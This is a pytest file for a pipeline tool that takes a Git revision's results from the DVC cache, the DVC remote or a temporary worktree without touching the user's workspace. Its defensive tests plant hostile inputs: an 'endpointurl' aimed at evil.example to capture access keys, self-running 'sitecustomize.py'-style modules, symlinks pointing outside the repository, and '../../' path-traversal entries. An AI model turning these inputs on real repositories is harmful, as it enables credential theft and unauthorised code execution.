"""Where a revision's results come from, and that taking them leaves the user's workspace alone."""

import contextlib
import hashlib
import json
import shutil
from pathlib import Path

import pandas as pd
import pytest

from pipeline.errors import CheckError, InputError
from pipeline.repository import lock
from pipeline.repository.sides import PREDICTIONS, has_results, revision, workspace, worktree
from tests.conftest import Clone, small_repository
from tests.repository.small import set_param, state

pytestmark = pytest.mark.slow  # runs revisions in temporary worktrees


@pytest.fixture(autouse=True)
def quiet(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("WANDB_MODE", "disabled")


def head(clone: Clone) -> str:
    return clone.run("git", "rev-parse", "HEAD").stdout.strip()


def picture(clone: Clone) -> tuple[object, ...]:
    """All that a user could notice: files with times, Git's index, branches and worktrees, DVC's configuration."""
    commands = ("status", "--porcelain"), ("worktree", "list"), ("for-each-ref",), ("stash", "list")
    return state(clone.path), *(clone.run("git", *command).stdout for command in commands)


def test_results_come_from_the_cache_and_nothing_of_the_users_changes(results: Clone) -> None:
    expected = pd.read_parquet(results.path / PREDICTIONS)
    base = head(results)
    set_param(results, "train.arguments.skill", 0.5)
    (results.path / PREDICTIONS).write_bytes(b"the user's own")
    (results.path / "untracked").write_text("new")
    before = picture(results)
    with revision(results.path, base) as side:
        assert side.source == "the DVC cache"
        pd.testing.assert_frame_equal(pd.read_parquet(side.folder / PREDICTIONS), expected)
        assert (side.folder / "models/package/model.onnx").is_file()
        folder = side.folder
    assert not folder.exists()
    assert picture(results) == before


@pytest.mark.parametrize("own", [False, True], ids=["committed", "of this clone alone"])
def test_results_come_from_the_remote_where_the_cache_lacks_them(results: Clone, own: bool) -> None:
    if own:
        results.run("dvc", "remote", "add", "--local", "--default", "own", "../own-remote")
    results.run("dvc", "push")
    shutil.rmtree(results.path / ".dvc/cache")
    before = picture(results)
    with revision(results.path, head(results)) as side:
        assert side.source == "the DVC remote"
        assert len(pd.read_parquet(side.folder / PREDICTIONS))
    assert picture(results) == before


def test_results_that_are_nowhere_are_made_in_a_temporary_worktree(
    results: Clone, capfd: pytest.CaptureFixture[str]
) -> None:
    expected = pd.read_parquet(results.path / PREDICTIONS)
    shutil.rmtree(results.path / ".dvc/cache")
    before = picture(results)
    with revision(results.path, head(results)) as side:
        assert side.source == "a run in a temporary worktree"
        pd.testing.assert_frame_equal(pd.read_parquet(side.folder / PREDICTIONS), expected)
    assert picture(results) == before
    said = capfd.readouterr().err.splitlines()  # a line of progress each; DVC would advise to `git add` files there
    assert said[-5:] == [
        f"report: {side.name}: running its pipeline in a temporary worktree",
        *(f"report: {side.name}: running {stage}" for stage in ("prepare", "train", "evaluate", "package")),
    ]
    assert all(line.startswith("report: ") for line in said)


def test_a_commit_with_a_stale_lock_is_run_instead_of_believed(results: Clone) -> None:
    recorded = pd.read_parquet(results.path / PREDICTIONS)
    set_param(results, "train.arguments.skill", 0.5)
    commit = results.commit("edited in the browser, nothing was run")
    with revision(results.path, commit) as side:
        assert side.source == "a run in a temporary worktree"
        assert not pd.read_parquet(side.folder / PREDICTIONS).equals(recorded)


def test_a_commit_whose_pipeline_does_not_run_is_an_answer_not_a_crash(results: Clone) -> None:
    (results.path / "pipe.py").write_text("raise SystemExit('broken on purpose')")
    commit = results.commit("broken")
    before = picture(results)
    with pytest.raises(CheckError, match="does not run"), revision(results.path, commit):
        pass
    assert picture(results) == before


def test_a_commit_whose_lock_is_lost_is_run(results: Clone) -> None:
    expected = pd.read_parquet(results.path / PREDICTIONS)
    (results.path / "dvc.lock").unlink()
    commit = results.commit("no lock")
    assert has_results(results.path, commit)
    with revision(results.path, commit) as side:
        pd.testing.assert_frame_equal(pd.read_parquet(side.folder / PREDICTIONS), expected)


def test_a_commit_without_a_pipeline_has_no_results(results: Clone) -> None:
    assert has_results(results.path, head(results))
    for name in ("dvc.lock", "dvc.yaml"):
        (results.path / name).unlink()
    assert not has_results(results.path, results.commit("before the pipeline"))


def test_a_lock_with_conflict_markers_is_named(results: Clone) -> None:
    (results.path / "dvc.lock").write_text("<<<<<<< HEAD\nstages: {}\n=======\n")
    commit = results.commit("merged by hand")
    with pytest.raises(InputError, match=f"dvc.lock of {commit[:7]} is no YAML, line"):
        has_results(results.path, commit)


@pytest.mark.parametrize("file", ["params.yaml", "dvc.yaml", "dvc.lock"])
def test_a_file_of_a_revision_that_is_broken_is_named_with_its_line(results: Clone, file: str) -> None:
    lines = (results.path / file).read_text().splitlines()
    results.write(file, "\n".join([*lines[:3], "  x: [", *lines[3:]]))
    commit = results.commit("edited in the browser")
    said = rf"^{file} of {commit[:7]} is no YAML, line \d+: .+$"
    with pytest.raises(InputError, match=said), revision(results.path, commit):
        pass


def test_a_workspace_without_results_says_what_to_do(results: Clone) -> None:
    (results.path / PREDICTIONS).unlink()
    with pytest.raises(CheckError, match="dvc repro"):
        workspace(results.path)


def test_tables_of_any_name_are_there_when_a_revision_is_run(results: Clone) -> None:
    """Git quotes names that are not ASCII unless told otherwise."""
    (results.path / "data/raw/größe.csv").write_text("x\n1\n")
    results.run("git", "rm", "-q", "--cached", "data/raw/rows.csv")
    results.run("dvc", "add", "-q", "data/raw/rows.csv", "data/raw/größe.csv")
    set_param(results, "train.arguments.skill", 0.5)
    commit = results.commit("edited in the browser, nothing was run")
    with revision(results.path, commit) as side:
        assert side.source == "a run in a temporary worktree"
        assert (side.folder / "data/raw/größe.csv").is_file()


def test_an_import_whose_source_is_gone_changes_nothing(results: Clone, tmp_path: Path) -> None:
    """The pinned data decides, in a review as in `pipeline verify`."""
    table = "data/raw/rows.csv"
    source = small_repository(tmp_path / "source", {"rows.csv": (results.path / table).read_text()})
    results.run("git", "rm", "-q", "--cached", table)
    results.run("dvc", "import", "-q", "--force", str(source.path), "rows.csv", "-o", table)
    commit = results.commit("the same rows, imported")
    shutil.rmtree(source.path)
    with revision(results.path, commit) as side:
        assert side.source == "the DVC cache"


def test_a_revision_runs_nothing_of_its_own_where_its_results_are_recorded(results: Clone) -> None:
    """Python would take `dvc.py` and `yaml.py` from the folder that DVC is started in."""
    results.run("dvc", "push")
    mark = results.path.parent / "ran"
    for name in ("dvc.py", "yaml.py", "sitecustomize.py"):
        results.write(name, f"open({str(mark)!r}, 'w').close()\nraise SystemExit(9)\n")
    commit = results.commit("modules of its own")
    with revision(results.path, commit) as side:
        assert side.source == "the DVC cache"
    shutil.rmtree(results.path / ".dvc/cache")
    with revision(results.path, commit) as side:
        assert side.source == "the DVC remote"
    assert not mark.exists()


def test_a_revisions_settings_do_not_mix_with_the_users(results: Clone) -> None:
    """Else its `endpointurl` would get the keys that only the user's own settings hold."""
    user = {"url": "s3://bucket/path", "access_key_id": "mine"}
    for name, value in user.items():
        results.run("dvc", "remote", "modify", "--local", "default", name, value)
    config = (results.path / ".dvc/config").read_text()
    results.write(
        ".dvc/config", f"{config}    endpointurl = https://evil.example\n[cache]\n    dir = ../../elsewhere\n"
    )
    commit = results.commit("settings")
    results.write(".dvc/config", config)
    with worktree(results.path, commit) as folder:
        seen = results.run("dvc", "--cd", str(folder), "config", "--list").stdout
    assert "remote.default.access_key_id=mine" in seen and "remote.default.url=s3://bucket/path" in seen
    assert "evil" not in seen and "elsewhere" not in seen
    assert f"cache.dir={results.path / '.dvc/cache'}" in seen


@pytest.mark.parametrize("link", [".dvc", ".dvc/config.local", ".dvc/tmp", "data", "models/package", "dvc.lock"])
def test_nothing_is_written_through_a_revisions_links(results: Clone, tmp_path: Path, link: str) -> None:
    kept = tmp_path / "kept"
    kept.mkdir()
    (kept / "file").write_text("the user's")
    place = results.path / link
    if link in ("dvc.lock", ".dvc/config.local"):
        place.unlink(missing_ok=True)
        place.symlink_to(kept / "file")
    else:
        if place.exists():
            place.rename(tmp_path / "away")
        place.symlink_to(kept)
    results.run("git", "add", "--all", "--force", link)
    results.run("git", "commit", "-q", "-m", "a link")
    commit = head(results)
    place.unlink()
    if (tmp_path / "away").exists():
        (tmp_path / "away").rename(place)
    with contextlib.suppress(CheckError, InputError), revision(results.path, commit):
        pass
    assert [(file.name, file.read_text()) for file in kept.iterdir()] == [("file", "the user's")]


def test_nothing_is_pulled_for_a_revision_whose_dvc_files_reach_out(results: Clone) -> None:
    results.run("dvc", "push", "-q")
    results.write("data/raw/x.dvc", f"outs:\n- md5: {'a' * 32}\n  path: ../../pipe.py\n")
    commit = results.commit("a file that is data, and is not")
    shutil.rmtree(results.path / ".dvc/cache")
    said = f"{commit[:7]}: nothing is pulled or run for its DVC files: data/raw/x.dvc: ../../pipe.py: not a plain path"
    with pytest.raises(CheckError, match=said), revision(results.path, commit):
        pass
    assert not (results.path / ".dvc/cache/files").exists()


def test_nothing_is_written_by_a_list_that_leads_out_of_its_folder(results: Clone, tmp_path: Path) -> None:
    """The remote's list of data/prepared, under a hash that the revision's dvc.lock names everywhere."""
    results.run("dvc", "push", "-q")
    md5 = lock.outputs((results.path / "dvc.lock").read_text())["data/prepared"].removesuffix(".dir")
    remote = tmp_path / "dvc-remote/files/md5"
    entries = json.loads((remote / md5[:2] / f"{md5[2:]}.dir").read_text())
    entries[0]["relpath"] = "../../pipe.py"
    content = json.dumps(entries).encode()
    made = hashlib.md5(content).hexdigest()
    (remote / made[:2]).mkdir(exist_ok=True)
    (remote / made[:2] / f"{made[2:]}.dir").write_bytes(content)
    results.write("dvc.lock", (results.path / "dvc.lock").read_text().replace(md5, made))
    commit = results.commit("another list")
    said = f"{commit[:7]}: data/prepared: its list in the DVC cache names '../../pipe.py', outside of the folder"
    with pytest.raises(CheckError, match=said), revision(results.path, commit):
        pass
